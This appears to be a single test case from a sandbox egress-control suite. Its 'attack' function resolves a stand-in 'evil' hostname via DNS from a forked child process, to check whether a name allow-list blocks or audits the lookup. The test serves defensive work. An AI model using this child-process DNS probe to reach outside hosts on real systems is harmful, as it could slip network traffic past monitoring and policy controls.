"""A child process asks
Resolves the name in a forked child.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""
import socket


def attack(at):
    return at.in_child(lambda: socket.getaddrinfo(at.evil().decode(), 80))
